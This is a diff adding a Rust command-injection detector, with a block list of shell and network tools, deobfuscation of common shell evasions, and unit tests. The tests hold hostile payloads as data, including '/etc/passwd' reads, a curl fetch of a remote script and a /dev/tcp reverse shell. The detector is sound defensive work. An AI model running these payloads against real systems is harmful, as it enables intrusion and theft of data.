@@ -1,0 +1,281 @@
+//! OS command injection: a shell separator or substitution followed by a command, on a copy of the
+//! value with the usual shell obfuscations undone (`${IFS}`, quotes and backslashes inside words).
+
+use super::{is_word, skip_ws, Category, Rule, CRITICAL, ERROR};
+
+pub const CHAINED: Rule = Rule::new("cmdi-chained-command", Category::Cmdi, CRITICAL, 1);
+pub const SUBSTITUTION: Rule = Rule::new("cmdi-substitution", Category::Cmdi, CRITICAL, 1);
+pub const SHELL_PATH: Rule = Rule::new("cmdi-shell-path", Category::Cmdi, CRITICAL, 1);
+pub const BARE_COMMAND: Rule = Rule::new("cmdi-bare-command", Category::Cmdi, ERROR, 2);
+
+/// Commands an honest value hardly ever has right after a shell separator.
+const DISTINCT: [&str; 50] = [
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "id",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "nslookup",
+    "certutil",
+    "bitsadmin",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "chmod",
+    "chown",
+    "rm",
+    "base64",
+    "telnet",
+    "tftp",
+    "systeminfo",
+    "tasklist",
+    "netstat",
+    "xterm",
+    "mkfifo",
+    "busybox",
+    "hostname",
+    "passwd",
+    "useradd",
+    "crontab",
+    "nohup",
+    "wmic",
+    "reg",
+    "dig",
+    "socat",
+    "env",
+];
+
+/// Commands that are also English words; they need an argument that looks like one.
+const COMMON: [&str; 16] = [
+    "cat", "ls", "echo", "sleep", "ping", "type", "dir", "net", "find", "kill", "head", "tail",
+    "more", "sort", "awk", "sed",
+];
+
+/// Undoes `c'a't`, `w\ho\am\i`, `${IFS}`: the shell removes these before it runs anything.
+fn deobfuscate(s: &str) -> String {
+    let s = s
+        .replace("${ifs}", " ")
+        .replace("$ifs$9", " ")
+        .replace("$ifs", " ")
+        .replace("{,}", " ");
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    for (i, &c) in b.iter().enumerate() {
+        let prev = if i == 0 { None } else { b.get(i - 1).copied() };
+        let next = b.get(i + 1).copied();
+        if matches!(c, b'\'' | b'"') && prev.is_some_and(is_word) && next.is_some_and(is_word) {
+            continue;
+        }
+        // `\i` is `i` to the shell; keep `C:\Windows` readable.
+        if c == b'\\' && next.is_some_and(is_word) && prev != Some(b':') {
+            continue;
+        }
+        if (c == b'\'' || c == b'"') && prev.is_some_and(is_word) && next == Some(c) {
+            continue;
+        }
+        out.push(c);
+    }
+    String::from_utf8(out).unwrap_or_default()
+}
+
+fn command_at(b: &[u8], i: usize) -> Option<(&'static str, bool, usize)> {
+    // Optional path prefix: /bin/cat, /usr/bin/id.
+    let mut start = i;
+    for prefix in [
+        &b"/usr/local/bin/"[..],
+        b"/usr/bin/",
+        b"/bin/",
+        b"/usr/sbin/",
+        b"/sbin/",
+    ] {
+        if b.get(i..).is_some_and(|r| r.starts_with(prefix)) {
+            start = i + prefix.len();
+        }
+    }
+    let mut end = start;
+    while b.get(end).is_some_and(|c| is_word(*c) || *c == b'.') {
+        end += 1;
+    }
+    let word = std::str::from_utf8(b.get(start..end)?).ok()?;
+    let word = word.strip_suffix(".exe").unwrap_or(word);
+    if let Some(w) = DISTINCT.iter().find(|w| **w == word) {
+        return Some((w, true, end));
+    }
+    // `net user`, `net localgroup …`: the Windows account and share subcommands.
+    if word == "net" {
+        let k = skip_ws(b, end);
+        let rest = b.get(k..).unwrap_or_default();
+        for sub in [
+            &b"user"[..],
+            b"localgroup",
+            b"group",
+            b"share",
+            b"view",
+            b"use",
+            b"session",
+        ] {
+            if rest.starts_with(sub) && !rest.get(sub.len()).copied().is_some_and(is_word) {
+                return Some(("net", false, k + sub.len()));
+            }
+        }
+    }
+    COMMON
+        .iter()
+        .find(|w| **w == word)
+        .map(|w| (*w, false, end))
+}
+
+/// Whether what follows a command looks like a shell argument or the end of a command.
+fn argument_follows(b: &[u8], end: usize, distinct: bool) -> bool {
+    match b.get(end) {
+        None => true,
+        Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'\n' | b'$') => true,
+        Some(b' ' | b'\t') => {
+            let k = skip_ws(b, end);
+            match b.get(k) {
+                None => distinct,
+                Some(
+                    b'-' | b'/' | b'.' | b'$' | b'~' | b'\\' | b'%' | b'`' | b'<' | b'>' | b'|'
+                    | b';' | b'&' | b'*' | b'{',
+                ) => true,
+                // `sleep 10`, `ping 10.0.0.1`
+                Some(c) if c.is_ascii_digit() => true,
+                Some(c) if distinct => c.is_ascii_alphanumeric() || matches!(c, b'"' | b'\''),
+                _ => false,
+            }
+        }
+        _ => false,
+    }
+}
+
+pub fn detect(s: &str, out: &mut Vec<Rule>) {
+    let b0 = s.as_bytes();
+    if !b0
+        .iter()
+        .any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'/'))
+    {
+        return;
+    }
+    let clean = deobfuscate(s);
+    let b = clean.as_bytes();
+    let mut found = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        let c = b.get(i).copied().unwrap_or(0);
+        let sep_end = match c {
+            b';' | b'\n' => Some(i + 1),
+            b'|' | b'&' => Some(if b.get(i + 1) == Some(&c) {
+                i + 2
+            } else {
+                i + 1
+            }),
+            // A markdown code fence (```) is not a substitution.
+            b'`' if b.get(i + 1) != Some(&b'`') && (i == 0 || b.get(i - 1) != Some(&b'`')) => {
+                Some(i + 1)
+            }
+            b'$' if b.get(i + 1) == Some(&b'(') => Some(i + 2),
+            _ => None,
+        };
+        if let Some(after) = sep_end {
+            let k = skip_ws(b, after);
+            if let Some((_, distinct, end)) = command_at(b, k) {
+                if argument_follows(b, end, distinct) {
+                    found.push(if c == b'`' || c == b'$' {
+                        SUBSTITUTION
+                    } else {
+                        CHAINED
+                    });
+                }
+            }
+            i = after;
+        } else {
+            i += 1;
+        }
+    }
+    if clean.contains("/dev/tcp/") || clean.contains("/dev/udp/") {
+        found.push(SHELL_PATH);
+    }
+    for shell in [
+        "/bin/sh",
+        "/bin/bash",
+        "/bin/zsh",
+        "/usr/bin/env",
+        "cmd.exe",
+        "cmd /c",
+        "powershell -",
+        "powershell.exe",
+    ] {
+        if clean.contains(shell) {
+            found.push(SHELL_PATH);
+        }
+    }
+    // A whole value that is a command with arguments (pasted straight into a shell).
+    if let Some((_, true, end)) = command_at(b, 0) {
+        if end < b.len() && argument_follows(b, end, false) {
+            found.push(BARE_COMMAND);
+        }
+    }
+    for rule in found {
+        if !out.contains(&rule) {
+            out.push(rule);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(s: &str) -> Vec<&'static str> {
+        let mut out = Vec::new();
+        detect(&s.to_ascii_lowercase(), &mut out);
+        out.iter().map(|r| r.id).collect()
+    }
+
+    #[test]
+    fn attacks() {
+        assert!(rules("; cat /etc/passwd").contains(&"cmdi-chained-command"));
+        assert!(rules("127.0.0.1 && whoami").contains(&"cmdi-chained-command"));
+        assert!(rules("x|id").contains(&"cmdi-chained-command"));
+        assert!(rules("`id`").contains(&"cmdi-substitution"));
+        assert!(rules("$(curl http://x.y/s.sh)").contains(&"cmdi-substitution"));
+        assert!(rules(";c'a't${IFS}/etc/passwd").contains(&"cmdi-chained-command"));
+        assert!(rules("a;w\\ho\\am\\i").contains(&"cmdi-chained-command"));
+        assert!(rules("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"cmdi-shell-path"));
+        assert!(rules("| /bin/ls -la").contains(&"cmdi-chained-command"));
+        assert!(rules("127.0.0.1 | net user").contains(&"cmdi-chained-command"));
+    }
+
+    #[test]
+    fn honest_text() {
+        for s in [
+            "Tom & Jerry",
+            "I love my dog; cat lovers welcome",
+            "price | quantity | total",
+            "https://shop.example/?a=1&sort=asc&type=all",
+            "R&D; find out more",
+            "echo chamber",
+            "Q&A session",
+            "Profit & net user growth; net users up",
+        ] {
+            assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
+        }
+    }
+}
